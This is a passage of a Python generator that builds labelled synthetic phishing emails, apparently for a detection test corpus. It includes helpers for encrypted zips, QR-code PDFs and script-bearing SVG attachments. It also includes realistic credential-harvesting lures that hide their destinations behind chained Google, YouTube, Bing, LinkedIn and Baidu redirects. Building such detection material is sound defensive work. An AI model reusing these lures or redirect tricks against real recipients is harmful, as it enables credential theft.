               f"{num(name, 'sb3', 1700000000000, 1799999999999)}"
    return f"=_{h(name, 'gen' + label, 24)}"


def html_page(body: str, lang: str = "en") -> str:
    return (f'<html lang="{lang}">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'</head>\n<body>\n{body}\n</body>\n</html>\n')


def outlook_html(body: str) -> str:
    """HTML as Outlook desktop writes it (Word styles trimmed)."""
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; '
            'charset=utf-8">\n<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            '@font-face {font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm;font-size:11.0pt;'
            'font-family:"Aptos",sans-serif;}\na:link, span.MsoHyperlink {color:#467886;text-decoration:underline;}\n'
            '--></style>\n</head>\n<body lang="DE" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
            f'<div class="WordSection1">\n{body}\n</div>\n</body>\n</html>\n')


def paras(text_block: str) -> str:
    """Plain paragraphs -> Outlook MsoNormal paragraphs."""
    out = []
    for para in text_block.strip("\n").split("\n\n"):
        inner = "<br>\n".join(escape(line) for line in para.split("\n"))
        out.append(f'<p class="MsoNormal">{inner}<o:p></o:p></p>\n<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
    return "\n".join(out)


def mixed(name: str, parts: list, style: str = "outlook") -> Multi:
    return Multi("mixed", boundary(name, style, "mix"), parts)


def related(name: str, parts: list, style: str = "outlook") -> Multi:
    return Multi("related", boundary(name, style, "rel"), parts, '\n\ttype="multipart/alternative";')


def add(category: str, name: str, description: str, raw: bytes) -> None:
    assert name.startswith("b13-"), name
    SAMPLES.append((category, name, description, raw))


def button(url: str, label: str, colour: str = "#0067b8") -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr><td bgcolor="{colour}" '
            f'style="padding:10px 24px;border-radius:2px"><a href="{url}" style="color:#ffffff;text-decoration:none;'
            f'font-family:Segoe UI,Arial,sans-serif;font-size:14px;font-weight:600">{label}</a></td></tr></table>')


# ---------------------------------------------------------------- attachment builders

def zipcrypto(members: list[tuple[str, bytes]], password: str, name: str) -> bytes:
    """A zip whose members are deflated and encrypted with traditional PKWARE encryption (ZipCrypto),
    as 7-Zip and Windows write when asked for a password; the 12-byte headers come from the sample name."""
    table = [0] * 256
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table[i] = c

    def crc_byte(crc: int, b: int) -> int:
        return (crc >> 8) ^ table[(crc ^ b) & 0xFF]

    y, mo, d, hh, mi, ss = files.FIXED_DATE
    dostime = (hh << 11) | (mi << 5) | (ss // 2)
    dosdate = ((y - 1980) << 9) | (mo << 5) | d
    out = bytearray()
    central = bytearray()
    for index, (member, data) in enumerate(members):
        keys = [0x12345678, 0x23456789, 0x34567890]

        def update(c: int) -> None:
            keys[0] = crc_byte(keys[0], c)
            keys[1] = (keys[1] + (keys[0] & 0xFF)) & 0xFFFFFFFF
            keys[1] = (keys[1] * 134775813 + 1) & 0xFFFFFFFF
            keys[2] = crc_byte(keys[2], keys[1] >> 24)

        for ch in password.encode():
            update(ch)
        crc = zlib.crc32(data) & 0xFFFFFFFF
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        compressed = compressor.compress(data) + compressor.flush()
        header = bytes.fromhex(h(name, f"zc{index}", 22)) + bytes([crc >> 24])
        encrypted = bytearray()
        for c in header + compressed:
            temp = (keys[2] | 2) & 0xFFFF
            encrypted.append(c ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
            update(c)
        encoded_name = member.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 8, dostime, dosdate, crc, len(encrypted), len(data),
                           len(encoded_name), 0) + encoded_name + encrypted
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 8, dostime, dosdate, crc, len(encrypted),
                               len(data), len(encoded_name), 0, 0, 0, 0, 0x20, offset) + encoded_name
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_offset, 0)
    return bytes(out)


def qr_matrix(url: str) -> list[list[int]]:
    import segno

    qr = segno.make(url, error="m", micro=False)
    return [[1 if cell else 0 for cell in row] for row in qr.matrix]


def qr_pdf(lines_above: list[str], url: str, lines_below: list[str], title: str, author: str = "") -> bytes:
    """A one-page PDF with text and a QR code drawn as an image (no link annotation: the QR is the link)."""
    matrix = qr_matrix(url)
    border, scale = 4, 6
    size = (len(matrix) + 2 * border) * scale
    rows = bytearray()
    for y in range(size):
        my = y // scale - border
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            rows.append(0 if dark else 255)
    image = zlib.compress(bytes(rows), 9)
    content = ["BT", "/F1 11 Tf", "15 TL", "56 780 Td"]
    for line in lines_above:
        content.append(f"({files._pdf_escape(line)}) Tj T*")
    content.append("ET")
    content.append(f"q 170 0 0 170 212 {760 - 15 * len(lines_above) - 190} cm /Im1 Do Q")
    content += ["BT", "/F1 10 Tf", "14 TL", f"56 {760 - 15 * len(lines_above) - 215} Td"]
    for line in lines_below:
        content.append(f"({files._pdf_escape(line)}) Tj T*")
    content.append("ET")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Author ({files._pdf_escape(author)}) "
                   f"/Producer (Microsoft: Print To PDF) /CreationDate (D:20231018071200+02'00') >>".encode())
    return files.pdf_file(objects, len(objects))


def docx_with_image(paragraphs_before: list[str], png: bytes, paragraphs_after: list[str], title: str, author: str) -> bytes:
    """A Word document with paragraphs around one inline PNG picture."""
    def para(p: str) -> str:
        return f'<w:p><w:r><w:t xml:space="preserve">{escape(p)}</w:t></w:r></w:p>'

    emu = 1800000
    drawing = (
        '<w:p><w:pPr><w:jc w:val="center"/></w:pPr><w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
        f'<wp:extent cx="{emu}" cy="{emu}"/><wp:docPr id="1" name="Grafik 1"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="0" name="image1.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:embed="rId10"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        f'<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="{emu}" cy="{emu}"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        '</wp:inline></w:drawing></w:r></w:p>')
    body = "".join(para(p) for p in paragraphs_before) + drawing + "".join(para(p) for p in paragraphs_after)
    document = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
                f'<w:body>{body}<w:sectPr/></w:body></w:document>').encode()
    content_types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                     '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                     '<Default Extension="xml" ContentType="application/xml"/>'
                     '<Default Extension="png" ContentType="image/png"/>'
                     '<Override PartName="/word/document.xml" '
                     'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
                     '<Override PartName="/docProps/core.xml" '
                     'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>').encode()
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/><Relationship Id="rId2" '
            'Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" '
            'Target="docProps/core.xml"/></Relationships>').encode()
    doc_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId10" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'image" Target="media/image1.png"/></Relationships>').encode()
    return files.zip_archive([
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", rels),
        ("word/document.xml", document),
        ("word/_rels/document.xml.rels", doc_rels),
        ("word/media/image1.png", png),
        ("docProps/core.xml", files._core_xml(title, author)),
    ])


def xlsx(rows: list[list[str]], title: str, author: str, sheet: str = "RFQ") -> bytes:
    """A minimal Excel workbook (inline strings, one sheet)."""
    def col(i: int) -> str:
        return chr(ord("A") + i)

    cells = []
    for r, row in enumerate(rows, start=1):
        cs = []
        for c, value in enumerate(row):
            if value == "":
                continue
            ref = f"{col(c)}{r}"
            if value.replace(".", "", 1).isdigit():
                cs.append(f'<c r="{ref}"><v>{value}</v></c>')
            else:
                cs.append(f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>')
        cells.append(f'<row r="{r}">{"".join(cs)}</row>')
    sheet_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                 f'<sheetData>{"".join(cells)}</sheetData></worksheet>').encode()
    workbook = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                f'<sheets><sheet name="{escape(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>').encode()
    content_types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                     '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                     '<Default Extension="xml" ContentType="application/xml"/>'
                     '<Override PartName="/xl/workbook.xml" '
                     'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                     '<Override PartName="/xl/worksheets/sheet1.xml" '
                     'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                     '<Override PartName="/docProps/core.xml" '
                     'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>').encode()
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" '
            'Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" '
            'Target="docProps/core.xml"/></Relationships>').encode()
    wb_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
               'worksheet" Target="worksheets/sheet1.xml"/></Relationships>').encode()
    return files.zip_archive([
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", rels),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", wb_rels),
        ("xl/worksheets/sheet1.xml", sheet_xml),
        ("docProps/core.xml", files._core_xml(title, author)),
    ])


def pdf_doc(lines: list[str], title: str, link: str | None = None) -> bytes:
    return files.pdf(lines, (link, (56, 420, 300, 460)) if link else None, title)


def ics(name: str, *, organizer: tuple[str, str], attendees: list[tuple[str, str]], summary: str, start: str,
        end: str, location: str, description: str, stamp: str, tzid: str = "W. Europe Standard Time") -> bytes:
    """A calendar request as Outlook writes it (CRLF lines, folded at 75 octets)."""
    def fold_ics(line: str) -> str:
        raw = line.encode()
        out = []
        while len(raw) > 74:
            cut = 74
            while (raw[cut] & 0xC0) == 0x80:
                cut -= 1
            out.append(raw[:cut].decode())
            raw = raw[cut:]
        out.append(raw.decode())
        return "\r\n ".join(out)

    desc = description.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")
    lines = [
        "BEGIN:VCALENDAR", "METHOD:REQUEST", "PRODID:Microsoft Exchange Server 2010", "VERSION:2.0",
        "BEGIN:VTIMEZONE", f"TZID:{tzid}", "BEGIN:STANDARD", "DTSTART:16010101T030000", "TZOFFSETFROM:+0200",
        "TZOFFSETTO:+0100", "RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10", "END:STANDARD", "BEGIN:DAYLIGHT",
        "DTSTART:16010101T020000", "TZOFFSETFROM:+0100", "TZOFFSETTO:+0200",
        "RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3", "END:DAYLIGHT", "END:VTIMEZONE",
        "BEGIN:VEVENT", f"ORGANIZER;CN={organizer[0]}:mailto:{organizer[1]}",
    ]
    for cn, email in attendees:
        lines.append(f'ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={cn}:mailto:{email}')
    lines += [
        f"DESCRIPTION;LANGUAGE=en-US:{desc}",
        f"UID:040000008200E00074C5B7101A82E008000000{h(name, 'uid', 32).upper()}",
        f"SUMMARY;LANGUAGE=en-US:{summary}",
        f"DTSTART;TZID={tzid}:{start}", f"DTEND;TZID={tzid}:{end}",
        "CLASS:PUBLIC", "PRIORITY:5", f"DTSTAMP:{stamp}", "TRANSP:OPAQUE", "STATUS:CONFIRMED", "SEQUENCE:0",
        f"LOCATION;LANGUAGE=en-US:{location}",
        "X-MICROSOFT-CDO-APPT-SEQUENCE:0", "X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE",
        "X-MICROSOFT-CDO-INTENDEDSTATUS:BUSY", "X-MICROSOFT-CDO-ALLDAYEVENT:FALSE",
        "X-MICROSOFT-CDO-IMPORTANCE:1", "X-MICROSOFT-CDO-INSTTYPE:0", "X-MICROSOFT-DONOTFORWARDMEETING:FALSE",
        "X-MICROSOFT-DISALLOW-COUNTER:FALSE",
        "BEGIN:VALARM", "DESCRIPTION:REMINDER", "TRIGGER;RELATED=START:-PT15M", "ACTION:DISPLAY", "END:VALARM",
        "END:VEVENT", "END:VCALENDAR",
    ]
    return ("\r\n".join(fold_ics(line) for line in lines) + "\r\n").encode()


def svg_wrap(script: str, title: str = "") -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" '
            f'height="200" viewBox="0 0 640 200">\n<title>{escape(title)}</title>\n'
            '<rect width="640" height="200" fill="#f3f2f1"/>\n'
            '<text x="40" y="100" font-family="Segoe UI, Arial" font-size="18" fill="#323130">Loading '
            'document, please wait...</text>\n'
            f'<script type="application/ecmascript"><![CDATA[\n{script}\n]]></script>\n</svg>\n').encode()


def emit(category: str, name: str, description: str, stamp: str, sender: Sender, from_: str, to: list[str],
         subject: str, body, **kw) -> None:
    headers = envelope(name, when(stamp), sender, from_, to, subject, **kw)
    add(category, name, description, message(headers, body))


def outlook_alt(name: str, plain: str, html_body: str) -> Multi:
    return alt(name, plain, outlook_html(html_body))


def signature_block(lines: list[str]) -> str:
    return '<p class="MsoNormal"><span style="font-size:9.0pt;color:#595959">' + "<br>\n".join(
        escape(line) for line in lines) + "</span><o:p></o:p></p>"


def vps_kit(ip: str, host: str, ctry: str, **kw) -> Sender:
    """A phishing kit mailing through Postfix on a rented server, PHPMailer on top."""
    kw.setdefault("selector", "default")
    kw.setdefault("mailer", "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)")
    return Sender("kit", ip, host, ctry, host=host, **kw)


def ses(ip: str, host_domain: str, ctry: str = "US", region: str = "us-east-1", **kw) -> Sender:
    """Amazon SES; the envelope sender is the SES bounce domain unless a custom MAIL FROM is set."""
    helo = f"a{ip.split('.')[2]}-{ip.split('.')[3]}.smtp-out.{region}.amazonses.com"
    kw.setdefault("selector", alnum(host_domain, "ses", 32).lower())
    return Sender("esp", ip, helo, ctry, host=f"email.{host_domain}", **kw)


def sendgrid(ip: str, ctry: str = "US", **kw) -> Sender:
    helo = f"o{ip.split('.')[3]}.ptr{ip.split('.')[2]}{ip.split('.')[3]}.sendgrid.net"
    kw.setdefault("selector", "s1")
    return Sender("esp", ip, helo, ctry, host="geopod-ismtpd-12", **kw)


# ================================================================ phishing

def phishing() -> None:
    cat = "phishing"

    # 01 -- Tycoon 2FA behind a compromised mailbox and Turnstile
    name = "b13-phish-tycoon2fa-remittance-link"
    rcpt = P["wiechers"][1]
    url = f"https://remit.hxkbgwx.ru/Ek7Qd/#{b64(rcpt)}"
    plain = (f"Good morning,\n\nPlease find attached our remittance advice for the invoices settled in today's BACS "
             f"payment run.\n\nView Remittance Advice (PDF, 148 KB) <{url}>\n\nKind regards\n\nClaire Whitmore\n"
             "Accounts Assistant\nAshford Tooling Ltd\nUnit 4, Waterside Park, Ashford TN24 0SE\n")
    body = paras("Good morning,\n\nPlease find attached our remittance advice for the invoices settled in today's "
                 "BACS payment run.") + (
        f'<p class="MsoNormal"><a href="{url}"><b>&#128196; View Remittance Advice (PDF, 148 KB)</b></a><o:p></o:p></p>'
        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>') + paras("Kind regards") + signature_block(
        ["Claire Whitmore", "Accounts Assistant", "Ashford Tooling Ltd", "Unit 4, Waterside Park, Ashford TN24 0SE"])
    emit(cat, name, "Tycoon 2FA: genuine but compromised UK mailbox (SPF/DKIM/DMARC pass) with no business relation "
         "sends a remittance 'attached' that is really a link to a fresh .ru host carrying the recipient's address "
         "base64-encoded in the fragment, the Turnstile-gated AiTM login pattern",
         "2024-09-17 08:14:52 +0100", m365_tenant_sender("40.107.21.117", "GBR01", "GB"),
         "Claire Whitmore <c.whitmore@ashfordtooling.co.uk>", [addr("wiechers")],
         "Remittance Advice - RA-240917-0483", outlook_alt(name, plain, body))

    # 02 -- EvilProxy behind a Google AMP redirect, OneDrive share imitation
    name = "b13-phish-evilproxy-google-amp-share"
    rcpt = P["halvorsen"][1]
    url = f"https://www.google.com/amp/s/kaltrop-mebel.com/.od/share/{b64(rcpt)}"
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;max-width:520px;margin:0 auto;border:1px solid #e1dfdd">'
        '<div style="background:#0078d4;color:#fff;padding:14px 20px;font-size:16px">OneDrive</div>'
        '<div style="padding:24px 20px"><p style="font-size:20px;margin:0 0 12px">Tobias Brandt shared a file with you'
        '</p><p style="color:#605e5c">Here\'s the document that Tobias Brandt shared with you.</p>'
        '<p style="border:1px solid #e1dfdd;padding:12px">&#128215; <b>Lieferantenbewertung Q3 2023.xlsx</b></p>'
        f'{button(url, "Open")}<p style="color:#a19f9d;font-size:11px;margin-top:24px">This link will work for '
        'anyone in Halvorsen &amp; Kroll Fördertechnik GmbH.</p></div>'
        '<div style="padding:12px 20px;font-size:11px;color:#a19f9d">Microsoft respects your privacy. '
        'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</div></div>')
    plain = (f"Tobias Brandt shared a file with you\n\nLieferantenbewertung Q3 2023.xlsx\n\nOpen: {url}\n\n"
             "This link will work for anyone in Halvorsen & Kroll Fördertechnik GmbH.\n")
    emit(cat, name, "EvilProxy: OneDrive share imitation naming an internal colleague in the display name but sent "
         "from an unrelated Australian joinery's server; the Open button goes through a google.com/amp/s/ redirect "
         "to a compromised site path carrying the CFO's address in base64",
         "2023-08-10 09:42:11 +1000",
         vps_kit("103.27.34.81", "cp-syd-s112.hostingplatform.com.au", "AU", dkim_d="bellamyjoinery.com.au",
                 dmarc="bestguesspass", compauth="pass reason=109", mailer=""),
         '"Tobias Brandt via OneDrive" <share@bellamyjoinery.com.au>', [addr("halvorsen")],
         'Tobias Brandt shared "Lieferantenbewertung Q3 2023.xlsx" with you', alt(name, plain, html, "php"))

    # 03 -- Rockstar 2FA via a compromised customer mailbox
    name = "b13-phish-rockstar2fa-pricing-share"
    rcpt = P["grant"][1]
    url = f"https://vf5.nxrovcl.ru/yz9QkE/?e={b64(rcpt)}"
    body = (paras("Hi Oliver,\n\nAs discussed, I have shared our Q4 pricing agreement through our secure document "
                  "portal. Please review and confirm by Friday so we can release the call-off.")
            + f'<table style="border:1px solid #d1d1d1;padding:10px"><tr><td><p class="MsoNormal">&#128274; '
              f'<b>Q4 Pricing Agreement.pdf</b><br>Shared via OneDrive for Business<br><a href="{url}">'
              'Review Document</a></p></td></tr></table>'
            + paras("\nThanks,") + signature_block(["Gareth Lloyd", "Commercial Manager", "Pennyfield Packaging Ltd",
                                                    "T: +44 1384 559 204"]))
    plain = (f"Hi Oliver,\n\nAs discussed, I have shared our Q4 pricing agreement through our secure document portal. "
             f"Please review and confirm by Friday so we can release the call-off.\n\nQ4 Pricing Agreement.pdf\n"
             f"Review Document <{url}>\n\nThanks,\nGareth Lloyd\nCommercial Manager\nPennyfield Packaging Ltd\n")
    emit(cat, name, "Rockstar 2FA: a compromised customer mailbox (all authentication passes) claims a OneDrive "
         "share, but the Review Document link points to a random .ru host with the recipient's address in base64, "
         "the kit's AiTM landing behind a CAPTCHA",
         "2024-11-26 15:03:27 +0000", m365_tenant_sender("40.107.23.52", "GBR01", "GB"),
         "Gareth Lloyd <g.lloyd@pennyfield-packaging.co.uk>", [addr("grant")],
         "Q4 Pricing Agreement - review required", outlook_alt(name, plain, body))

    # 04 -- google.com/url -> youtube.com/redirect -> landing
    name = "b13-phish-google-url-youtube-redirect-po"
    rcpt = P["demir"][1]
    inner = f"https://po-viewer.zpjk.sbs/halkroll/?u={b64(rcpt)}"
    yt = ("https://www.youtube.com/redirect?event=video_description&redir_token=QUFFLUhqb" + alnum(name, "yt", 40)
          + "&q=" + urllib.parse.quote(inner, safe=""))
    url = "https://www.google.com/url?q=" + urllib.parse.quote(yt, safe="") + "&sa=D&sntz=1&usg=AOvVaw" + alnum(name, "usg", 22)
    body = paras("Hello,\n\nPurchase order PO-88213 has been updated with revised quantities and delivery dates. "
                 "Please confirm the new schedule today so that the shipment can be booked.") + (
        f'<p class="MsoNormal"><a href="{url}">View updated PO-88213</a><o:p></o:p></p>') + paras(
        "\nRegards\nProcurement Desk")
    plain = (f"Hello,\n\nPurchase order PO-88213 has been updated with revised quantities and delivery dates. Please "
             f"confirm the new schedule today so that the shipment can be booked.\n\nView updated PO-88213: {url}\n\n"
             "Regards\nProcurement Desk\n")
    emit(cat, name, "Purchase-order lure from a free outlook.com address with no company name; the link is a "
         "google.com/url redirect wrapping a youtube.com/redirect wrapping a .sbs landing page that carries the "
         "buyer's address, hops chained to hide the destination",
         "2024-04-09 11:27:40 +0200",
         Sender("outlookcom", "40.92.58.71", "EUR05-AM6-obe.outbound.protection.outlook.com", "NL",
                dkim_d="outlook.com"),
         "Procurement Desk <procurement.desk.eu@outlook.com>", [addr("demir")],
         "PO-88213 updated - please confirm delivery schedule", outlook_alt(name, plain, body))

    # 05 -- Bing ck/a redirect, German invoice reminder from a compromised IONOS mailbox
    name = "b13-phish-bing-ck-redirect-rechnung"
    rcpt = P["ap"][1]
    target = f"https://rechnung-portal.elkaro-docs.top/re/2025-1147?id={b64(rcpt)}"
    u = "a1" + base64.urlsafe_b64encode(target.encode()).decode().rstrip("=")
    url = (f"https://www.bing.com/ck/a?!&&p={h(name, 'bp', 64)}JmltdHM9MTczOTIzMjAwMA&ptn=3&ver=2&hsh=4"
           f"&fclid={guid(name, 'fclid')}&u={u}&ntb=1")
    plain = (f"Sehr geehrte Damen und Herren,\n\nzu unserer Rechnung RE-2025-1147 vom 14.01.2025 konnten wir noch "
             f"keinen Zahlungseingang feststellen. Die Rechnung sowie den Kontoauszug finden Sie in unserem "
             f"Rechnungsportal:\n\nRechnung RE-2025-1147 anzeigen: {url}\n\nMit freundlichen Grüßen\n\n"
             "Buchhaltung\nElkaro Elektrotechnik GmbH & Co. KG\nIndustriestraße 12, 32107 Bad Salzuflen\n")
    html = html_page(
        '<div style="font-family:Arial,sans-serif;font-size:10pt">'
        "<p>Sehr geehrte Damen und Herren,</p><p>zu unserer Rechnung RE-2025-1147 vom 14.01.2025 konnten wir noch "
        "keinen Zahlungseingang feststellen. Die Rechnung sowie den Kontoauszug finden Sie in unserem "
        "Rechnungsportal:</p>"
        f'<p><a href="{url}" style="font-weight:bold">Rechnung RE-2025-1147 anzeigen (PDF)</a></p>'
        "<p>Mit freundlichen Grüßen</p><p>Buchhaltung<br>Elkaro Elektrotechnik GmbH &amp; Co. KG<br>"
        "Industriestraße 12, 32107 Bad Salzuflen</p></div>", "de")
    ionos = Sender("esp", "212.227.17.10", "mout.kundenserver.de", "DE", dkim_d="elkaro-elektro.de",
                   selector="s1-ionos", host="kundenserver.de",
                   via=[fold(f"Received: from [192.168.178.{num(name, 'lan', 20, 60)}] ([84.150.{num(name, 'c3', 1, 254)}."
                             f"{num(name, 'c4', 1, 254)}]) by mrelayeu.kundenserver.de (mreue106 [212.227.15.183]) with "
                             f"ESMTPSA (Nemesis) id 1M{alnum(name, 'nid', 20)}; {rfc(when('2025-02-11 10:05:11 +0100'))}")],
                   mailer="X-Mailer: Microsoft Outlook 16.0")
    emit(cat, name, "German overdue-invoice lure from a compromised IONOS mailbox of a company the recipient has no "
         "account with; the 'portal' link is a bing.com/ck/a redirect whose u=a1 parameter base64-decodes to a .top "
         "host carrying the AP mailbox's address",
         "2025-02-11 10:05:12 +0100", ionos, "Buchhaltung Elkaro Elektrotechnik <buchhaltung@elkaro-elektro.de>",
         [addr("ap")], "Rechnung RE-2025-1147 – Zahlungserinnerung", alt(name, plain, html, "gen"), lang="de")

    # 06 -- LinkedIn slink redirect from a freemail "consultant"
    name = "b13-phish-linkedin-slink-proposal"
    url = "https://www.linkedin.com/slink?code=gXk4Pq7N"
    plain = ("Hi Oliver,\n\nI'm reaching out on behalf of a client planning a conveyor retrofit at two distribution "
             "centres in the Midlands. The project brief and budget proposal are in our shared project folder:\n\n"
             f"{url}\n\nYou'll need to sign in with your Microsoft 365 work account to access the folder (client "
             "confidentiality). Please let me know by Thursday whether Halvorsen & Kroll would like to quote.\n\n"
             "Best regards,\nRichard Havers\nHavers Engineering Consultancy\n")
    html = ('<div dir="ltr">Hi Oliver,<div><br></div><div>I\'m reaching out on behalf of a client planning a conveyor '
            'retrofit at two distribution centres in the Midlands. The project brief and budget proposal are in our '
            f'shared project folder:</div><div><br></div><div><a href="{url}">View Project Proposal</a></div><div><br>'
            '</div><div>You\'ll need to sign in with your Microsoft 365 work account to access the folder (client '
            'confidentiality). Please let me know by Thursday whether Halvorsen &amp; Kroll would like to quote.</div>'
            '<div><br></div><div>Best regards,</div><div>Richard Havers</div><div>Havers Engineering Consultancy</div>'
            '</div>\n')
    emit(cat, name, "Unknown 'consultant' on a gmail.com address sends a vague project proposal behind a LinkedIn "
         "slink short link (destination hidden) and asks for a Microsoft 365 sign-in to open it: credential "
         "harvesting through a redirect hop",
         "2023-10-05 14:22:09 +0100", gmail_sender("209.85.128.54", "mail-wm1-f54.google.com", dkim_d="gmail.com"),
         "Richard Havers <richard.havers.consult@gmail.com>", [addr("grant")],
         "Conveyor retrofit proposal - Midlands DCs", alt(name, plain, html, "gmail"))

    # 07 -- Baidu link redirect, HR handbook from a lookalike domain
    name = "b13-phish-baidu-link-handbuch"
    url = "http://www.baidu.com/link?url=" + alnum(name, "bd", 86) + "&wd=&eqid=" + h(name, "eq", 32)
    plain = ("Hallo Herr Nowak,\n\nim Rahmen der jährlichen Unterweisung bitten wir alle Mitarbeitenden, das "
             "aktualisierte Mitarbeiterhandbuch 2024 zu lesen und bis zum 26.01.2024 elektronisch zu bestätigen. "
             "Ohne Bestätigung kann die Lohnabrechnung für Januar nicht freigegeben werden.\n\n"
             f"Handbuch öffnen und bestätigen: {url}\n\nMit freundlichen Grüßen\nIhre Personalabteilung\n")
    html = html_page(
        '<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">'
        "<p>Hallo Herr Nowak,</p><p>im Rahmen der jährlichen Unterweisung bitten wir alle Mitarbeitenden, das "
        "aktualisierte <b>Mitarbeiterhandbuch 2024</b> zu lesen und bis zum <b>26.01.2024</b> elektronisch zu "
        "bestätigen. Ohne Bestätigung kann die Lohnabrechnung für Januar nicht freigegeben werden.</p>"
        f'<p><a href="{url}" style="background:#1f4e79;color:#fff;padding:8px 18px;text-decoration:none">'
        "Handbuch öffnen und bestätigen</a></p><p>Mit freundlichen Grüßen<br>Ihre Personalabteilung<br>"
        "Halvorsen &amp; Kroll Fördertechnik GmbH</p></div>", "de")
    emit(cat, name, "HR handbook acknowledgement in German from halkroll-personal.com, a lookalike of the company's "
         "own domain, with a payroll threat; the button is a baidu.com/link redirect token hiding the destination",
